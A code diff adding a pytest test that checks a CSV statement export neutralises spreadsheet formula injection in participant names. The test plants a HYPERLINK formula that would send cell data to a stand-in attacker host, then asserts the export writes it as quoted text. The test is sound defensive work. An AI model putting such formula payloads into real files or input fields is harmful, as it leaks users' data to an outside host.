@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import re
 import zlib
 from pathlib import Path
@@ -28,6 +30,7 @@ from sentier.paas.tests.statement_factories import (
     opex,
     place,
 )
+from sentier.participants.actions import update_participant_details
 
 
 @pytest.fixture(autouse=True)
@@ -122,3 +125,23 @@ def test_the_placement_is_unchanged_by_exports(approved: Statement) -> None:
     statement_csv(approved)
     statement_pdf(approved)
     assert list(Placement.objects.values()) == before
+
+
+def test_csv_cells_never_run_as_formulas(personas: dict[str, Any], laval_participant: Any) -> None:
+    """A name typed as a formula (the anonymous application lets anyone type one) is written as
+    text; amounts stay numbers."""
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"Julie")'
+    update_participant_details(
+        actor=personas["admin"], participant=laval_participant, changes={"first_name": formula}
+    )
+    grant(personas, opex(personas))
+    placement = place(personas, laval_participant, opex(personas), months_ago(2))
+    approved_claim(personas, placement, months_ago(1), amount_cents=4250)
+    statement = generate(personas, opex(personas), months_ago(1))
+
+    rows = list(csv.reader(io.StringIO(statement_csv(statement)[1:]), delimiter=";"))
+
+    names = {row[5] for row in rows[1:] if row[5]}
+    assert names == {f"'{formula} Lavoie"}
+    assert not [cell for row in rows for cell in row if cell.startswith(("=", "@", "+"))]
+    assert all(re.fullmatch(r"-?\d+,\d\d", row[7]) for row in rows[1:])
